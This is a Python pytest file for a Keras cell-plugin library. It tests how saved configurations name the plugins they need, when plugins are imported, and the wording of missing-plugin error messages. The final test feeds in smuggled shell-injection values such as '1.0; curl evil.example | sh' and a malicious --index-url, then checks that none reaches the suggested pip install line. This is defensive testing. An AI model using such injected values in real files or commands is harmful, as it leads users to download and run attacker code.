"""Which plugins a saved configuration needs, and that nothing else in it is believed."""

import sys

import keras
import pytest

import kcells
from kcells import registry
from kcells.errors import KCellsError, MissingPluginError, PluginLoadError
from kcells.registry.provenance import ensure_loaded, registered_names, sources


def cell_config(registered_name, class_name="FooCell", module="some_module"):
    """What Keras writes for a cell."""
    return {
        "module": module,
        "class_name": class_name,
        "config": {"units": 4},
        "registered_name": registered_name,
    }


def layer_config(*cells, **record):
    """What kcells writes for a layer around cells."""
    config = {"cell": {"config": {"cells": list(cells)}}}
    return {"layers": [{**config, "cell_sources": [record]} if record else config]}


# -- Reading a configuration


def test_names_are_found_at_any_depth():
    config = {
        "layers": [
            {"config": {"cell": cell_config("one>A"), "other": (cell_config("two>B"),)}},
            cell_config("three>C") | {"config": {"cell": cell_config("four>D")}},
        ],
        "registered_name": "five>E",
    }
    assert list(registered_names(config)) == ["one>A", "two>B", "three>C", "four>D"]


@pytest.mark.parametrize(
    "config", [None, 3, "x>Y", [], {}, cell_config(None), cell_config(["x>Y"])]
)
def test_nothing_where_there_is_nothing(config):
    assert list(registered_names(config)) == []
    assert sources(config) == []
    ensure_loaded(config)


def test_sources_name_id_distribution_and_version(site):
    site.plugin("kcells-plugin-foo", {"foo": "FooCell", "bar": "BarCell"}, version="1.2.3")
    site.plugin("kcells-plugin-other", {"other": "OtherCell"})
    config = layer_config(
        cell_config("kcells-plugin-foo>FooCell"),
        cell_config("kcells-plugin-foo>BarCell", "BarCell"),
        cell_config("kcells-plugin-foo>FooCell"),
        cell_config("Custom>OwnCell", "OwnCell"),
        cell_config(None, "LSTMCell", "keras.layers"),
        cell_config(None, "Dense", "keras.layers"),
    )
    assert sources(config) == [
        {"id": "foo", "distribution": "kcells-plugin-foo", "version": "1.2.3"},
        {"id": "bar", "distribution": "kcells-plugin-foo", "version": "1.2.3"},
        {"id": "lstm", "distribution": "kcells", "version": kcells.__version__},
    ]


def test_sources_import_nothing(site):
    plugin = site.plugin("kcells-plugin-foo", {"foo": "FooCell"}, source="1 / 0")
    assert len(sources(cell_config("kcells-plugin-foo>FooCell"))) == 1
    assert plugin.imports == 0


@pytest.mark.parametrize("package", ["Kcells_Plugin.Foo", "kcells-plugin-foo", "kcells_plugin_foo"])
def test_sources_know_a_distribution_in_every_spelling(site, package):
    site.plugin("Kcells_Plugin.Foo", {"foo": "FooCell"})
    assert [s["id"] for s in sources(cell_config(f"{package}>FooCell"))] == ["foo"]


# -- Loading what a configuration needs


def test_the_plugin_is_imported_once_and_only_it(site):
    plugin = site.plugin("kcells-plugin-foo", {"foo": "FooCell"})
    other = site.plugin("kcells-plugin-other", {"other": "OtherCell"})
    config = layer_config(cell_config("kcells-plugin-foo>FooCell"))
    ensure_loaded(config)
    ensure_loaded(config)
    assert (plugin.imports, other.imports) == (1, 0)
    cls = keras.saving.get_registered_object("kcells-plugin-foo>FooCell")
    assert cls is registry.load("foo")


def test_what_keras_knows_needs_no_plugin(site):
    plugin = site.plugin("kcells-plugin-foo", {"foo": "FooCell"})

    @keras.saving.register_keras_serializable("kcells-plugin-foo")
    class FooCell(keras.layers.GRUCell):
        pass

    ensure_loaded(cell_config("kcells-plugin-foo>FooCell"))
    assert plugin.imports == 0


def test_custom_objects_of_the_user_need_no_plugin():
    config = layer_config(cell_config("kcells-plugin-foo>FooCell"))
    with keras.saving.custom_object_scope({"kcells-plugin-foo>FooCell": keras.layers.GRUCell}):
        ensure_loaded(config)


def test_the_class_itself_is_loaded_before_its_broken_neighbours(site):
    source = """
    import keras

    @keras.saving.register_keras_serializable("kcells-plugin-foo")
    class GoodCell(keras.layers.GRUCell):
        pass
    """
    site.plugin("kcells-plugin-foo", {"a_bad": "BadCell", "good": "GoodCell"}, source=source)
    ensure_loaded(cell_config("kcells-plugin-foo>GoodCell"))
    assert keras.saving.get_registered_object("kcells-plugin-foo>GoodCell") is not None


def test_a_helper_class_comes_with_any_cell_of_its_distribution(site):
    source = """
    import keras

    @keras.saving.register_keras_serializable("kcells-plugin-foo")
    class Helper(keras.layers.Dense):
        pass

    @keras.saving.register_keras_serializable("kcells-plugin-foo")
    class FooCell(keras.layers.GRUCell):
        pass
    """
    site.plugin("kcells-plugin-foo", {"foo": "FooCell"}, source=source)
    ensure_loaded(cell_config("kcells-plugin-foo>Helper"))
    assert keras.saving.get_registered_object("kcells-plugin-foo>Helper") is not None


def test_a_plugin_that_does_not_load_says_so(site):
    site.plugin("kcells-plugin-foo", {"foo": "FooCell"}, source="1 / 0")
    with pytest.raises(PluginLoadError, match="raised ZeroDivisionError"):
        ensure_loaded(cell_config("kcells-plugin-foo>FooCell"))


# -- What is missing


def missing(config) -> str:
    with pytest.raises(MissingPluginError) as caught:
        ensure_loaded(config)
    assert isinstance(caught.value, ImportError)
    assert isinstance(caught.value, KCellsError)
    return str(caught.value)


def test_missing_plugin_with_a_recorded_version():
    record = {"id": "gone", "distribution": "kcells-plugin-gone", "version": "3.1"}
    config = layer_config(cell_config("kcells-plugin-gone>GoneCell"), **record)
    assert missing(config) == (
        'the saved model needs the cell class "GoneCell" of kcells-plugin-gone,'
        " which is not installed.\n"
        "  Install it: pip install kcells-plugin-gone==3.1"
    )


def test_missing_plugin_without_a_version():
    assert missing(cell_config("kcells-plugin-gone>GoneCell")).endswith(
        "\n  Install it: pip install kcells-plugin-gone"
    )


def test_missing_plugin_of_an_unconventional_name_that_was_recorded():
    record = {"id": "gone", "distribution": "mylab-cells", "version": "0.2"}
    config = layer_config(cell_config("mylab-cells>GoneCell"), **record)
    assert "pip install mylab-cells==0.2" in missing(config)


def test_hidden_plugin(site, monkeypatch):
    plugin = site.plugin("kcells-plugin-foo", {"foo": "FooCell"})
    monkeypatch.setenv("KCELLS_PLUGINS", "kcells-plugin-other")
    assert missing(cell_config("kcells-plugin-foo>FooCell")) == (
        'the saved model needs the cell class "FooCell" of kcells-plugin-foo,'
        " which KCELLS_PLUGINS hides.\n"
        "  To use it, add kcells-plugin-foo to KCELLS_PLUGINS."
    )
    assert plugin.imports == 0


def test_plugin_of_another_version_without_the_class(site):
    site.plugin("kcells-plugin-foo", {"foo": "FooCell"}, version="2.0")
    record = {"id": "old", "distribution": "kcells-plugin-foo", "version": "1.0"}
    config = layer_config(cell_config("kcells-plugin-foo>OldCell"), **record)
    assert missing(config) == (
        'the saved model needs the cell class "OldCell" of kcells-plugin-foo,'
        " and kcells-plugin-foo 2.0 has no such class.\n"
        "  The model was saved with version 1.0; install that one:"
        " pip install kcells-plugin-foo==1.0"
    )


def test_plugin_without_the_class_and_no_version_recorded(site):
    site.plugin("kcells-plugin-foo", {"foo": "FooCell"}, version="2.0")
    text = missing(cell_config("kcells-plugin-foo>OldCell"))
    assert "kcells-plugin-foo 2.0 has no such class" in text
    assert "version unknown" in text


# -- What a file says is not believed


@pytest.mark.parametrize(
    "name", ["stranger>Cell", "Custom>Cell", "Cell", "sys>Cell", ">Cell", "a>"]
)
def test_strangers_are_left_to_keras(name):
    ensure_loaded(cell_config(name, "Cell", "stranger"))


def test_a_module_that_a_configuration_names_is_not_imported(site):
    stranger = site.module("stranger_module", "class Cell: ...")
    for name in ("stranger_module>Cell", "stranger-module>Cell", "Custom>Cell", None):
        ensure_loaded(cell_config(name, "Cell", "stranger_module"))
    record = {"id": "cell", "distribution": "stranger-module", "version": "1.0"}
    with pytest.raises(MissingPluginError):
        ensure_loaded(
            layer_config(cell_config("stranger-module>Cell", "Cell", "stranger_module"), **record)
        )
    assert stranger.imports == 0
    assert "stranger_module" not in sys.modules


def test_a_distribution_without_declarations_is_not_imported(site):
    site.dist_info("kcells-plugin-quiet", "1.0", None)
    quiet = site.module("kcells_plugin_quiet", "class Cell: ...")
    with pytest.raises(MissingPluginError, match="kcells-plugin-quiet"):
        ensure_loaded(cell_config("kcells-plugin-quiet>Cell", "Cell", "kcells_plugin_quiet"))
    assert quiet.imports == 0


@pytest.mark.parametrize(
    "record",
    [
        {"distribution": "kcells-plugin-gone"},
        {"version": "1.0"},
        {"distribution": None, "version": None},
        {"distribution": "kcells-plugin-gone", "version": None},
        {"distribution": "kcells-plugin-gone", "version": {"no": "text"}},
        {"distribution": ["kcells-plugin-gone"], "version": "1.0"},
    ],
)
def test_damaged_records_are_passed_over(record):
    text = missing(layer_config(cell_config("kcells-plugin-gone>GoneCell"), **record))
    assert text.endswith("pip install kcells-plugin-gone")


@pytest.mark.parametrize("damage", ["text", 3, {"a": 1}, [1, "x", None], None])
def test_damaged_lists_of_records_are_passed_over(damage):
    config = {"cell": cell_config("kcells-plugin-gone>GoneCell"), "cell_sources": damage}
    assert missing(config).endswith("pip install kcells-plugin-gone")


@pytest.mark.parametrize(
    ("name", "version"),
    [
        ("kcells-plugin-gone", "1.0; curl evil.example | sh"),
        ("kcells-plugin-gone", "1.0 --index-url http://evil.example"),
        ("kcells-plugin-gone; curl evil.example | sh", "1.0"),
        ("kcells-plugin-gone --index-url http://evil.example", "1.0"),
        ("kcells-plugin-gone @ http://evil.example/x.whl", "1.0"),
    ],
)
def test_the_install_line_is_no_command_of_the_file(name, version):
    record = {"id": "gone", "distribution": name, "version": version}
    config = layer_config(cell_config(f"{name}>GoneCell"), **record)
    text = ""
    try:
        ensure_loaded(config)
    except MissingPluginError as error:
        text = str(error)
    # People paste this line into a shell.
    assert "evil" not in text.partition("pip install")[2]
